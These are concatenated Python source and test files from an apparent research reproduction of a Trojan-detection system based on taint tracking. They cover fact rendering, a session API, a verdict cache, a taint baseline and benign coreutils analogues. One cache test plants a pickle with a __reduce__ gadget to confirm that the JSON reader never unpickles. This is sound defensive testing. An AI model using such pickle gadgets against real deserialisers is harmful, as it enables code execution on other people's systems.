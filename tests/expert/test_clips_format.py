"""CLIPS-syntax rendering tests (paper Appendix A shapes)."""

from repro.expert import (
    InferenceEngine,
    Pattern,
    Rule,
    Template,
    render_assert,
    render_fact,
    render_fire_trace,
    render_firing,
)
from repro.expert.engine import FiredRule
from repro.harrier.events import ResourceAccessEvent, ResourceId
from repro.kernel.process import ResourceKind
from repro.secpert.facts import event_to_fact
from repro.taint import DataSource, TagSet


class TestFactRendering:
    def test_appendix_a1_shape(self):
        """The rendered execve fact reads like the appendix's assert."""
        event = ResourceAccessEvent(
            pid=1, time=33, frequency=1, address="8048403",
            call_name="SYS_execve",
            resource=ResourceId(ResourceKind.FILE, "/bin/ls"),
            origin=TagSet.of(DataSource.BINARY, "/bench/execve.exe"),
        )
        text = render_fact(event_to_fact(event))
        assert text.startswith("(assert (system_call_access")
        assert "(system_call_name SYS_execve)" in text
        assert '(resource_name "/bin/ls")' in text
        assert "(resource_type FILE)" in text
        assert 'BINARY "/bench/execve.exe"' in text
        assert "(time 33)" in text
        assert "(frequency 1)" in text
        assert '(address "8048403")' in text

    def test_render_assert_has_prompt(self):
        template = Template.define("t", "x")
        assert render_assert(template.make(x=1)).startswith("CLIPS> (assert")

    def test_value_rendering_edge_cases(self):
        template = Template.define("t", "a", "b", "c", "d")
        fact = template.make(a=None, b=True, c=(1, 2), d=TagSet.empty())
        text = render_fact(fact)
        assert "(a nil)" in text
        assert "(b TRUE)" in text
        assert "(c 1 2)" in text
        assert "(d nil)" in text


class TestFireTraceRendering:
    def test_appendix_a3_shape(self):
        fired = FiredRule(
            rule_name="check_execve", fact_ids=(43, 42, 5), bindings={}
        )
        assert render_firing(1, fired) == "FIRE 1 check_execve: f-43,f-42,f-5"

    def test_trace_from_live_engine(self):
        engine = InferenceEngine()
        engine.define_template(Template.define("go", "n"))
        engine.add_rule(Rule("r", [Pattern("go")], lambda ctx: None))
        engine.assert_fact(engine.templates["go"].make(n=1))
        engine.assert_fact(engine.templates["go"].make(n=2))
        engine.run()
        text = render_fire_trace(engine.fire_trace)
        assert text.splitlines()[0].startswith("FIRE 1 r: f-")
        assert text.splitlines()[1].startswith("FIRE 2 r: f-")
