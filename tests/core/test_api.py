"""repro.api: the Session facade and its warm-engine semantics.

The facade's contract: a Session makes machines *fresh per run* but
reuses a warm :class:`EngineCache` (assemble memo, translated-block
store, tag-set interner) — so repeated runs are faster to set up yet
bit-identical to cold one-shot execution.
"""

from repro.api import Session, run, run_workload
from repro.core.options import RunOptions
from repro.core.report import REPORT_SCHEMA_VERSION
from repro.fleet.refs import WorkloadRef
from repro.isa import assemble

SOURCE = """
main:
    mov ebx, path
    mov ecx, 0x241
    call open
    mov ebx, eax
    mov ecx, text
    call fputs
    call close
    mov eax, 0
    ret
.data
path: .asciz "/tmp/out"
text: .asciz "hello"
"""


class TestSessionRun:
    def test_run_source_string(self):
        report = Session().run(SOURCE)
        assert report.exit_code == 0
        assert report.program == "/bin/guest"

    def test_run_source_with_path(self):
        report = Session().run(SOURCE, path="/usr/bin/demo")
        assert report.program == "/usr/bin/demo"

    def test_run_prebuilt_image(self):
        report = Session().run(assemble("/bin/t", SOURCE))
        assert report.exit_code == 0

    def test_setup_hook_runs_before_guest(self):
        seen = []
        Session().run(SOURCE, setup=lambda hth: seen.append(hth))
        assert len(seen) == 1
        assert hasattr(seen[0], "kernel")

    def test_session_counts_runs(self):
        session = Session()
        session.run(SOURCE)
        session.run(SOURCE)
        assert session.runs == 2

    def test_schema_version_in_report_dict(self):
        data = Session().run(SOURCE).to_dict()
        assert data["schema_version"] == REPORT_SCHEMA_VERSION


class TestWarmEngine:
    def test_assemble_memo_reused(self):
        session = Session()
        session.run(SOURCE)
        stats_first = session.engine.stats()
        session.run(SOURCE)
        stats_second = session.engine.stats()
        assert stats_second["images"] == stats_first["images"]

    def test_warm_runs_bit_identical_to_cold(self):
        workload = WorkloadRef.from_registry("8", "ElmExploit").resolve()
        cold = workload.run().to_dict()
        session = Session()
        first = session.run_workload(workload).to_dict()
        second = session.run_workload(workload).to_dict()
        assert first == cold
        assert second == cold

    def test_bounded_assemble_memo_evicts_lru(self):
        # Front-ends digesting untrusted, ever-varying sources (the
        # serve daemon) cap the memo so it cannot grow without bound.
        from repro.core.engine import EngineCache

        engine = EngineCache(max_images=2)
        engine.image("/bin/a", SOURCE)
        engine.image("/bin/b", SOURCE)
        engine.image("/bin/a", SOURCE)  # refresh a
        engine.image("/bin/c", SOURCE)  # evicts b, the LRU entry
        assert len(engine._images) == 2
        assert ("/bin/b", SOURCE) not in engine._images
        assert ("/bin/a", SOURCE) in engine._images
        assert engine.stats()["images"] == 2

    def test_assemble_memo_unbounded_by_default(self):
        # Execution sessions must keep every template: eviction would
        # orphan that layout's translated-block cache.
        from repro.core.engine import EngineCache

        engine = EngineCache()
        for i in range(5):
            engine.image(f"/bin/{i}", SOURCE)
        assert len(engine._images) == 5

    def test_block_caches_shared_across_runs(self):
        session = Session(RunOptions(metrics=True))
        first = session.run(SOURCE)
        second = session.run(SOURCE)
        misses_first = first.telemetry.metric_total(
            "blockcache_misses_total"
        )
        misses_second = second.telemetry.metric_total(
            "blockcache_misses_total"
        )
        # Run 2 executes entirely out of the warm store: every block was
        # translated (missed) in run 1.
        assert misses_first > 0
        assert misses_second == 0


class TestSessionOptions:
    def test_session_options_are_the_default(self):
        session = Session(RunOptions(max_ticks=10))
        report = session.run(SOURCE)
        assert report.result.reason == "max-ticks"

    def test_per_run_options_override(self):
        session = Session(RunOptions(max_ticks=10))
        report = session.run(SOURCE, options=RunOptions())
        assert report.result.reason == "all-exited"

    def test_per_run_telemetry_from_options(self):
        report = Session().run(SOURCE, options=RunOptions(metrics=True))
        assert report.telemetry is not None
        assert report.telemetry.metric_total("cpu_instructions_total") > 0


class TestOneShots:
    def test_module_level_run(self):
        assert run(SOURCE).exit_code == 0

    def test_module_level_run_workload(self):
        workload = WorkloadRef.from_registry("8", "ElmExploit").resolve()
        report = run_workload(workload)
        assert workload.classified_correctly(report)
