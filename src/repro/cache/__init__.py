"""repro.cache — content-addressed verdict cache + static triage.

The fastest run is the one you never execute: hash the assembled image,
the frozen options, and the guest-visible environment; if the exact run
has been seen before, hand back the remembered schema-v2
:class:`RunReport` bit-identically without executing.  See
``docs/scaling.md`` for the key anatomy and the bypass rules.
"""

from repro.cache.digest import (
    CacheEnv,
    DigestError,
    KEY_SCHEMA,
    canon_bytes,
    content_digest,
    environment_digest,
    image_digest,
    options_fingerprint,
    run_key,
    submission_key,
    workload_key,
)
from repro.cache.store import (
    BYPASS_ANALYZER,
    BYPASS_DISABLED,
    BYPASS_FAULTS,
    BYPASS_OPAQUE_SETUP,
    BYPASS_TELEMETRY,
    CacheStats,
    DiskStore,
    MemoryLRU,
    VerdictCache,
    bypass_reason,
    cacheable_report,
    cacheable_report_dict,
    merge_cache_stats,
)
from repro.cache.triage import (
    TriageProfile,
    cluster_order,
    hamming64,
    similarity,
    simhash64,
    triage_image,
)

__all__ = [
    "BYPASS_ANALYZER",
    "BYPASS_DISABLED",
    "BYPASS_FAULTS",
    "BYPASS_OPAQUE_SETUP",
    "BYPASS_TELEMETRY",
    "CacheEnv",
    "CacheStats",
    "DigestError",
    "DiskStore",
    "KEY_SCHEMA",
    "MemoryLRU",
    "TriageProfile",
    "VerdictCache",
    "bypass_reason",
    "cacheable_report",
    "cacheable_report_dict",
    "canon_bytes",
    "cluster_order",
    "content_digest",
    "environment_digest",
    "hamming64",
    "image_digest",
    "merge_cache_stats",
    "options_fingerprint",
    "run_key",
    "similarity",
    "simhash64",
    "submission_key",
    "triage_image",
    "workload_key",
]
