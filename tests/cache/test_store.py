"""The two-tier verdict cache store: LRU, disk, policy, and metrics.

Safety properties: a hit always returns a *fresh* object graph (mutating
a hit cannot poison later hits), a corrupt or mis-keyed disk entry is a
miss never an error, concurrent writers racing on a content-addressed
key are harmless, and transient outcomes (watchdog, degraded) are never
remembered.
"""

import json
import multiprocessing
import os
import pickle
from types import SimpleNamespace

import pytest

from repro.cache.store import (
    BYPASS_ANALYZER,
    BYPASS_DISABLED,
    BYPASS_FAULTS,
    BYPASS_OPAQUE_SETUP,
    BYPASS_TELEMETRY,
    DiskStore,
    MemoryLRU,
    VerdictCache,
    bypass_reason,
    cacheable_report,
    cacheable_report_dict,
    merge_cache_stats,
)
from repro.core.options import RunOptions
from repro.telemetry.metrics import MetricsRegistry


def _fake_report(reason="exit", degraded=False, verdict="benign"):
    return SimpleNamespace(
        result=SimpleNamespace(reason=reason),
        degraded=degraded,
        program="/bin/x",
        verdict=SimpleNamespace(value=verdict),
        warnings=[],
    )


class TestMemoryLRU:
    def test_evicts_least_recently_used(self):
        lru = MemoryLRU(capacity=2)
        lru.put("a", b"1")
        lru.put("b", b"2")
        assert lru.get("a") == b"1"  # refresh a
        lru.put("c", b"3")  # evicts b
        assert lru.get("b") is None
        assert lru.get("a") == b"1"
        assert lru.get("c") == b"3"
        assert lru.evictions == 1

    def test_capacity_floor_is_one(self):
        lru = MemoryLRU(capacity=0)
        lru.put("a", b"1")
        lru.put("b", b"2")
        assert len(lru) == 1


class TestDiskStore:
    def test_round_trip_across_instances(self, tmp_path):
        payload = pickle.dumps({"key": "k1", "meta": {}, "value": 42})
        DiskStore(str(tmp_path)).write("k1", payload)
        assert DiskStore(str(tmp_path)).read("k1") == payload

    def test_corrupt_entry_reads_as_miss(self, tmp_path):
        store = DiskStore(str(tmp_path))
        store.write("k1", pickle.dumps({"key": "k1", "meta": {},
                                        "value": 1}))
        path = store._path("k1")
        with open(path, "wb") as fh:
            fh.write(b"\x80garbage not pickle")
        assert store.read("k1") is None
        assert store.corrupt == 1

    def test_renamed_entry_cannot_answer_for_another_key(self, tmp_path):
        # The envelope's embedded key is checked on read.
        store = DiskStore(str(tmp_path))
        store.write("aaothera", pickle.dumps(
            {"key": "aaothera", "meta": {}, "value": 1}
        ))
        import os
        os.rename(store._path("aaothera"), store._path("aamangled"))
        assert store.read("aamangled") is None
        assert store.corrupt == 1

    def test_entries_and_clear(self, tmp_path):
        store = DiskStore(str(tmp_path))
        for key in ("aa1", "ab2", "aa3"):
            store.write(key, pickle.dumps(
                {"key": key, "meta": {"m": key}, "value": key}
            ))
        listed = list(store.entries())
        assert sorted(k for k, _, _ in listed) == ["aa1", "aa3", "ab2"]
        assert all(meta["m"] == key for key, meta, _ in listed)
        assert store.clear() == 3
        assert list(store.entries()) == []


class TestVerdictCache:
    def test_hit_returns_a_fresh_object_graph(self):
        cache = VerdictCache()
        cache.store("k", {"nested": [1, 2]})
        first = cache.lookup("k")
        first["nested"].append(3)
        assert cache.lookup("k") == {"nested": [1, 2]}

    def test_disk_tier_survives_a_new_process_view(self, tmp_path):
        a = VerdictCache(disk_dir=str(tmp_path))
        a.store("k", "value")
        b = VerdictCache(disk_dir=str(tmp_path))
        assert b.lookup("k") == "value"
        assert b.stats.disk_hits == 1
        # Promoted to memory: the second lookup is a memory hit.
        assert b.lookup("k") == "value"
        assert b.stats.mem_hits == 1

    def test_namespaces_do_not_collide(self, tmp_path):
        session = VerdictCache(disk_dir=str(tmp_path), namespace="session")
        serve = VerdictCache(disk_dir=str(tmp_path), namespace="serve")
        session.store("k", "report-object")
        assert serve.lookup("k") is None
        serve.store("k", {"report": "wire-dict"})
        assert session.lookup("k") == "report-object"
        assert serve.lookup("k") == {"report": "wire-dict"}

    def test_watchdog_and_degraded_reports_are_never_stored(self):
        cache = VerdictCache()
        assert not cache.store_report("k1", _fake_report(reason="watchdog"))
        assert not cache.store_report("k2", _fake_report(degraded=True))
        assert cache.store_report("k3", _fake_report())
        assert cache.lookup("k1") is None
        assert cache.lookup("k2") is None
        assert cache.lookup("k3") is not None
        assert cache.stats.store_skips == 2

    def test_unpicklable_value_degrades_to_no_store(self):
        cache = VerdictCache()
        assert not cache.store("k", lambda: None)
        assert cache.stats.unpicklable == 1
        assert cache.lookup("k") is None

    def test_snapshot_shape(self, tmp_path):
        cache = VerdictCache(disk_dir=str(tmp_path))
        cache.store("k", 1)
        cache.lookup("k")
        cache.lookup("absent")
        cache.bypass(BYPASS_FAULTS)
        snap = cache.snapshot()
        assert snap["hits"] == 1 and snap["misses"] == 1
        assert snap["hit_rate"] == 0.5
        assert snap["stores"] == 1
        assert snap["bypass"] == {"faults": 1}
        assert snap["disk_dir"] == str(tmp_path)

    def test_metrics_families_pretouch_and_count(self):
        registry = MetricsRegistry()
        cache = VerdictCache(metrics=registry)
        text = registry.render()
        # Families visible before any traffic (scrape-friendly).
        for family in ("cache_hits_total", "cache_misses_total",
                       "cache_stores_total", "cache_bypass_total",
                       "cache_entries", "cache_lookup_seconds"):
            assert family in text
        cache.store("k", 1)
        cache.lookup("k")
        cache.lookup("absent")
        cache.bypass(BYPASS_DISABLED)
        assert registry.counter("cache_hits_total", tier="memory").value == 1
        assert registry.counter("cache_misses_total").value == 1
        assert registry.counter("cache_stores_total").value == 1
        assert registry.counter(
            "cache_bypass_total", reason="disabled"
        ).value == 1


class _UnpickleSentinel:
    """Records every unpickling: loading one anywhere appends to
    ``loads``.  Proves a json-codec store never runs ``pickle.loads``
    on planted bytes (which would be arbitrary code execution)."""

    loads: list = []

    def __reduce__(self):
        return (_UnpickleSentinel._record, ())

    @staticmethod
    def _record():
        _UnpickleSentinel.loads.append("unpickled")
        return _UnpickleSentinel()


class TestJsonCodec:
    """The serve tier stores plain wire dicts, so its disk/memory
    envelopes are JSON: data-only, nothing executable on read."""

    def _value(self):
        return {"report": {"verdict": "trojan", "warnings": []},
                "ok": True, "warnings": [{"rule": "R1"}]}

    def test_round_trip_across_instances(self, tmp_path):
        a = VerdictCache(disk_dir=str(tmp_path), namespace="serve",
                         codec="json")
        a.store("k", self._value())
        b = VerdictCache(disk_dir=str(tmp_path), namespace="serve",
                         codec="json")
        assert b.lookup("k") == self._value()
        assert b.stats.disk_hits == 1
        assert b.snapshot()["codec"] == "json"

    def test_disk_entries_are_plain_json(self, tmp_path):
        cache = VerdictCache(disk_dir=str(tmp_path), namespace="serve",
                             codec="json")
        cache.store("k", self._value(), meta={"program": "/bin/x"})
        files = [os.path.join(dirpath, name)
                 for dirpath, _, names in os.walk(tmp_path)
                 for name in names if name.endswith(".rvc")]
        assert len(files) == 1
        with open(files[0], "rb") as fh:
            envelope = json.loads(fh.read())
        assert envelope["key"] == "serve-k"
        assert envelope["value"] == self._value()

    def test_planted_pickle_bytes_are_never_unpickled(self, tmp_path):
        """A writable cache_dir must not grant code execution in a
        json-codec reader: a valid *pickle* envelope planted under the
        right key reads as corrupt (a miss), without unpickling."""
        cache = VerdictCache(disk_dir=str(tmp_path), namespace="serve",
                             codec="json")
        planted = pickle.dumps({
            "key": "serve-kk", "meta": {},
            "value": _UnpickleSentinel(),
        })
        cache.disk.write("serve-kk", planted)
        assert cache.lookup("kk") is None
        assert _UnpickleSentinel.loads == []
        assert cache.disk.corrupt == 1

    def test_unencodable_value_degrades_to_no_store(self):
        cache = VerdictCache(codec="json")
        assert not cache.store("k", object())
        assert cache.stats.unpicklable == 1
        assert cache.lookup("k") is None

    def test_unknown_codec_is_rejected(self):
        with pytest.raises(KeyError):
            VerdictCache(codec="msgpack")


class TestCacheDirPermissions:
    def test_fresh_root_is_private(self, tmp_path):
        root = tmp_path / "fresh"
        DiskStore(str(root))
        assert (root.stat().st_mode & 0o777) == 0o700

    def test_existing_root_mode_is_left_alone(self, tmp_path):
        root = tmp_path / "shared"
        root.mkdir()
        os.chmod(root, 0o755)
        DiskStore(str(root))
        assert (root.stat().st_mode & 0o777) == 0o755


class TestBypassPolicy:
    def test_disabled_wins_over_everything(self):
        options = RunOptions(cache=False, metrics=True)
        assert bypass_reason(options, telemetry=object(),
                             fault_injector=object()) == BYPASS_DISABLED

    def test_fault_injection_bypasses(self):
        from repro.faultinject import TRANSPARENT_PROFILE

        assert bypass_reason(RunOptions(),
                             fault_injector=object()) == BYPASS_FAULTS
        assert bypass_reason(
            RunOptions(fault_profile=TRANSPARENT_PROFILE)
        ) == BYPASS_FAULTS

    def test_telemetry_bypasses(self):
        assert bypass_reason(RunOptions(),
                             telemetry=object()) == BYPASS_TELEMETRY
        assert bypass_reason(RunOptions(metrics=True)) == BYPASS_TELEMETRY

    def test_analyzer_and_opaque_setup_bypass(self):
        assert bypass_reason(RunOptions(),
                             analyzer=object()) == BYPASS_ANALYZER
        assert bypass_reason(RunOptions(),
                             opaque_setup=True) == BYPASS_OPAQUE_SETUP

    def test_plain_run_is_cacheable(self):
        assert bypass_reason(RunOptions()) is None

    def test_wire_dict_policy_matches_object_policy(self):
        assert cacheable_report(_fake_report())
        assert cacheable_report_dict(
            {"result": {"reason": "exit"}, "degraded": False}
        )
        assert not cacheable_report_dict(
            {"result": {"reason": "watchdog"}, "degraded": False}
        )
        assert not cacheable_report_dict(
            {"result": {"reason": "exit"}, "degraded": True}
        )


def _writer(root, key, n):
    store = DiskStore(root)
    payload = pickle.dumps({"key": key, "meta": {}, "value": "same"})
    for _ in range(n):
        store.write(key, payload)


class TestConcurrentWriters:
    def test_racing_writers_on_one_key_are_harmless(self, tmp_path):
        """Content-addressed writes race benignly: whichever lands, the
        payload is identical and always readable."""
        root = str(tmp_path)
        procs = [
            multiprocessing.Process(target=_writer, args=(root, "kk", 50))
            for _ in range(4)
        ]
        for p in procs:
            p.start()
        for p in procs:
            p.join(timeout=60)
            assert p.exitcode == 0
        store = DiskStore(root)
        payload = store.read("kk")
        assert payload is not None
        assert pickle.loads(payload)["value"] == "same"
        assert store.corrupt == 0


class TestMergeCacheStats:
    def test_counters_add_and_rate_recomputes(self):
        merged = merge_cache_stats([
            {"hits": 3, "misses": 1, "stores": 1, "bypass": {"faults": 2}},
            None,  # a worker without a cache contributes nothing
            {"hits": 1, "misses": 3, "stores": 3,
             "bypass": {"faults": 1, "disabled": 1}},
        ])
        assert merged["hits"] == 4 and merged["misses"] == 4
        assert merged["hit_rate"] == 0.5
        assert merged["stores"] == 4
        assert merged["bypass"] == {"disabled": 1, "faults": 3}
        assert merged["workers"] == 2

    def test_order_independent(self):
        parts = [
            {"hits": 1, "misses": 0, "bypass": {"a": 1}},
            {"hits": 0, "misses": 2, "bypass": {"b": 1}},
        ]
        assert merge_cache_stats(parts) == \
            merge_cache_stats(list(reversed(parts)))
