"""Single-taint-bit baseline (paper section 5.1).

The paper argues that one taint bit — "was this value derived from
program input?" (Perl taint mode [24], DOG [36], TaintCheck [23]) —
cannot support the HTH policy, because it cannot distinguish *which*
source a value came from, and in particular cannot recognize *hardcoded*
identifiers (untainted values look exactly like safe constants).

This baseline replays Harrier's events through a Perl-taint-mode-style
policy: flag any sensitive call (execve, file create/write, connect)
whose resource identifier is *tainted*.  On the Table 6 matrix it inverts
HTH's answers — user-supplied names get flagged, hardcoded Trojan names
sail through — which is precisely the ablation the paper's argument
predicts.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, List, Sequence

from repro.core.report import RunReport, Verdict
from repro.harrier.events import (
    DataTransferEvent,
    ResourceAccessEvent,
    SecurityEvent,
)
from repro.programs.base import Workload
from repro.taint.tags import DataSource, TagSet

#: Sources that count as "input" for the single bit (Perl taints anything
#: that enters the program from outside).
TAINTED_SOURCES = frozenset(
    {DataSource.USER_INPUT, DataSource.FILE, DataSource.SOCKET}
)

#: Calls Perl's taint mode guards (exec, file modification, network).
SENSITIVE_CALLS = frozenset(
    {
        "SYS_execve",
        "SYS_open",
        "SYS_creat",
        "SYS_unlink",
        "SYS_chmod",
        "SYS_socketcall:connect",
    }
)


def is_tainted(tags: TagSet) -> bool:
    """Collapse a multi-source tag set to the single bit."""
    return any(tag.source in TAINTED_SOURCES for tag in tags)


@dataclass
class SingleBitResult:
    name: str
    flagged: bool
    flagged_calls: List[str]
    hth_verdict: Verdict
    expected_verdict: Verdict

    @property
    def correct(self) -> bool:
        return self.flagged == (self.expected_verdict is not Verdict.BENIGN)

    @property
    def hth_correct(self) -> bool:
        return self.hth_verdict is self.expected_verdict


def classify_events(events: Iterable[SecurityEvent]) -> List[str]:
    """Perl-taint-mode policy: names of sensitive calls with tainted
    identifiers."""
    flagged: List[str] = []
    for event in events:
        if isinstance(event, ResourceAccessEvent):
            if event.call_name in SENSITIVE_CALLS and is_tainted(event.origin):
                flagged.append(f"{event.call_name}({event.resource.name})")
        elif isinstance(event, DataTransferEvent):
            if event.direction == "write" and is_tainted(
                event.resource_origin
            ):
                flagged.append(f"{event.call_name}({event.resource.name})")
    return flagged


def evaluate_single_bit(
    workloads: Sequence[Workload],
) -> List[SingleBitResult]:
    """Run each workload once; judge it with both HTH and the single bit."""
    results = []
    for workload in workloads:
        report: RunReport = workload.run()
        flagged_calls = classify_events(report.events)
        results.append(
            SingleBitResult(
                name=workload.name,
                flagged=bool(flagged_calls),
                flagged_calls=flagged_calls,
                hth_verdict=report.verdict,
                expected_verdict=workload.expected_verdict,
            )
        )
    return results


def accuracy(results: Sequence[SingleBitResult]) -> float:
    if not results:
        return 0.0
    return sum(1 for r in results if r.correct) / len(results)


def hth_accuracy(results: Sequence[SingleBitResult]) -> float:
    if not results:
        return 0.0
    return sum(1 for r in results if r.hth_correct) / len(results)
