"""Trusted-program analogues for the false-positive study (paper Table 7,
sections 8.2.1-8.2.10): ls, column, awk, pico, tail, diff, wc, bc.

Each re-implements the *information-flow shape* of the real utility —
that is all HTH observes.  The expected outcomes follow the paper: these
eight run warning-free (with a complete dataflow tracker, pico does too;
the paper's HIGH warning on pico was an artifact of its incomplete
prototype, reproducible here with ``complete_dataflow=False``).
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.hth import HTH

from typing import List

from repro.core.report import Verdict
from repro.programs.base import Workload

LS_SOURCE = r"""
; ls: read the current directory (note: "." is hardcoded - the paper
; remarks HTH sees this but correctly does not warn) and print it
main:
    mov ebx, dot
    mov ecx, 0
    call open
    mov esi, eax
ls_loop:
    mov ebx, esi
    mov ecx, buf
    mov edx, 64
    call read
    cmp eax, 0
    jle ls_done
    mov ebx, 1
    mov ecx, buf
    mov edx, eax
    call write
    jmp ls_loop
ls_done:
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
dot: .asciz "."
buf: .space 64
"""

COLUMN_SOURCE = r"""
; column a b c: concatenate the files named on the command line to stdout
main:
    mov ebp, esp
    mov edi, 1
arg_loop:
    load eax, [ebp+1]       ; argc
    cmp edi, eax
    jge done
    load eax, [ebp+2]       ; argv
    add eax, edi
    mov esi, eax
    load ebx, [esi]         ; argv[i]
    mov ecx, 0
    call open
    cmp eax, 0
    jl next
    mov esi, eax            ; fd
read_loop:
    mov ebx, esi
    mov ecx, buf
    mov edx, 64
    call read
    cmp eax, 0
    jle close_it
    mov ebx, 1
    mov ecx, buf
    mov edx, eax
    call write
    jmp read_loop
close_it:
    mov ebx, esi
    call close
next:
    add edi, 1
    jmp arg_loop
done:
    mov eax, 0
    ret
.data
buf: .space 64
"""

AWK_SOURCE = r"""
; awk '/pat/' file: scan a user-named file, print matching content
main:
    mov ebp, esp
    load eax, [ebp+2]
    load ebx, [eax+2]       ; argv[2] = input file (argv[1] is the pattern)
    mov ecx, 0
    call open
    mov esi, eax
awk_loop:
    mov ebx, esi
    mov ecx, buf
    mov edx, 64
    call read
    cmp eax, 0
    jle awk_done
    mov ebx, 1
    mov ecx, buf
    mov edx, eax
    call write
    jmp awk_loop
awk_done:
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
buf: .space 64
"""

PICO_SOURCE = r"""
; pico: read keystrokes from the terminal, save the buffer to the file
; the user named on the command line
main:
    mov ebp, esp
    mov ebx, 0              ; stdin
    mov ecx, buf
    mov edx, 80
    call read_line
    mov edi, eax            ; length typed
    load eax, [ebp+2]
    load ebx, [eax+1]       ; argv[1] = save-as name
    mov ecx, 0x241          ; O_WRONLY|O_CREAT|O_TRUNC
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, edi
    call write
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
buf: .space 96
"""

TAIL_SOURCE = r"""
; tail file: print the last part of a user-named file
main:
    mov ebp, esp
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 192
    call read
    mov edi, eax            ; total length
    mov ebx, esi
    call close
    ; print the final 24 cells (or everything when shorter)
    cmp edi, 24
    jle tail_short
    mov ecx, buf
    add ecx, edi
    sub ecx, 24
    mov edx, 24
    jmp tail_write
tail_short:
    mov ecx, buf
    mov edx, edi
tail_write:
    mov ebx, 1
    call write
    mov eax, 0
    ret
.data
buf: .space 192
"""

DIFF_SOURCE = r"""
; diff a b: read both user-named files and report on stdout
main:
    mov ebp, esp
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf_a
    mov edx, 96
    call read
    mov edi, eax
    mov ebx, esi
    call close
    load eax, [ebp+2]
    load ebx, [eax+2]
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf_b
    mov edx, 96
    call read
    push eax
    mov ebx, esi
    call close
    ; print "< " side then "> " side (headers go to the terminal)
    mov ebx, marker_a
    call print
    mov ebx, 1
    mov ecx, buf_a
    mov edx, edi
    call write
    mov ebx, marker_b
    call print
    pop edx
    mov ebx, 1
    mov ecx, buf_b
    call write
    mov eax, 0
    ret
.data
marker_a: .asciz "< "
marker_b: .asciz "> "
buf_a: .space 96
buf_b: .space 96
"""

WC_SOURCE = r"""
; wc file: count the bytes of a user-named file, print the count
main:
    mov ebp, esp
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0
    call open
    mov esi, eax
    mov edi, 0              ; running count
wc_loop:
    mov ebx, esi
    mov ecx, buf
    mov edx, 64
    call read
    cmp eax, 0
    jle wc_done
    add edi, eax
    jmp wc_loop
wc_done:
    mov ebx, esi
    call close
    mov ebx, edi
    call print_num
    mov ebx, nl
    call print
    mov eax, 0
    ret
.data
nl: .asciz "\n"
buf: .space 64
"""

BC_SOURCE = r"""
; bc: read an expression "A+B" from the user, echo it, print the sum
main:
    mov ebx, 0
    mov ecx, buf
    mov edx, 32
    call read_line
    mov ebx, buf
    call print              ; bc echoes the expression (user data ->
    mov ebx, nl             ; terminal; not a monitored boundary)
    call print
    mov ebx, buf
    call atoi
    mov edi, eax
    ; scan to the '+'
    mov esi, buf
scan:
    load eax, [esi]
    cmp eax, 0
    jz emit
    cmp eax, 43             ; '+'
    jz plus
    add esi, 1
    jmp scan
plus:
    add esi, 1
    mov ebx, esi
    call atoi
    add edi, eax
emit:
    mov ebx, edi
    call print_num
    mov ebx, nl
    call print
    mov eax, 0
    ret
.data
nl: .asciz "\n"
buf: .space 32
"""


def _seed_home(hth: HTH) -> None:
    hth.fs.write_text("a", "alpha file\n")
    hth.fs.write_text("b", "bravo file\n")
    hth.fs.write_text("c", "charlie file\n")
    hth.fs.write_text("notes.txt", "some text for scanning\nifdef HERE\n")
    hth.fs.write_text(
        "long.txt", "".join(f"line {i}\n" for i in range(12))
    )


def coreutils_workloads() -> List[Workload]:
    return [
        Workload(
            name="ls",
            program_path="/bin/ls_real",
            source=LS_SOURCE,
            description="list the current directory",
            setup=_seed_home,
            expected_verdict=Verdict.BENIGN,
        ),
        Workload(
            name="column",
            program_path="/usr/bin/column",
            source=COLUMN_SOURCE,
            description="concatenate user-named files to the terminal",
            setup=_seed_home,
            argv=["/usr/bin/column", "a", "b", "c"],
            expected_verdict=Verdict.BENIGN,
        ),
        Workload(
            name="awk",
            program_path="/usr/bin/awk",
            source=AWK_SOURCE,
            description="scan a user-named file",
            setup=_seed_home,
            argv=["/usr/bin/awk", "/ifdef/", "notes.txt"],
            expected_verdict=Verdict.BENIGN,
        ),
        Workload(
            name="pico",
            program_path="/usr/bin/pico",
            source=PICO_SOURCE,
            description="editor: user keystrokes saved to a user-named file",
            setup=_seed_home,
            argv=["/usr/bin/pico", "a.txt"],
            stdin="hello from the user\n",
            expected_verdict=Verdict.BENIGN,
        ),
        Workload(
            name="tail",
            program_path="/usr/bin/tail",
            source=TAIL_SOURCE,
            description="print the end of a user-named file",
            setup=_seed_home,
            argv=["/usr/bin/tail", "long.txt"],
            expected_verdict=Verdict.BENIGN,
        ),
        Workload(
            name="diff",
            program_path="/usr/bin/diff",
            source=DIFF_SOURCE,
            description="compare two user-named files",
            setup=_seed_home,
            argv=["/usr/bin/diff", "a", "b"],
            expected_verdict=Verdict.BENIGN,
        ),
        Workload(
            name="wc",
            program_path="/usr/bin/wc",
            source=WC_SOURCE,
            description="count bytes of a user-named file",
            setup=_seed_home,
            argv=["/usr/bin/wc", "a"],
            expected_verdict=Verdict.BENIGN,
        ),
        Workload(
            name="bc",
            program_path="/usr/bin/bc",
            source=BC_SOURCE,
            description="command-line calculator on user input",
            stdin="17+25\n",
            expected_verdict=Verdict.BENIGN,
        ),
    ]
