"""ChaosHarness tests: seed derivation, replayability, and stability of a
paper scenario under fault schedules (a small slice of the full
``bench_chaos_stability`` suite, kept cheap for tier-1)."""

import pytest

from repro.core.report import Verdict
from repro.faultinject import (
    SEMANTIC_PROFILE,
    TRANSPARENT_PROFILE,
    chaos_seeds,
    run_chaos,
    run_one,
)
from repro.programs.exploits.registry import table8_workloads


@pytest.fixture(scope="module")
def elm():
    return next(w for w in table8_workloads() if w.name == "ElmExploit")


class TestChaosSeeds:
    def test_deterministic(self):
        assert chaos_seeds(1337, 10) == chaos_seeds(1337, 10)

    def test_distinct_and_counted(self):
        seeds = chaos_seeds(1337, 25)
        assert len(seeds) == 25
        assert len(set(seeds)) == 25

    def test_first_seed_is_base(self):
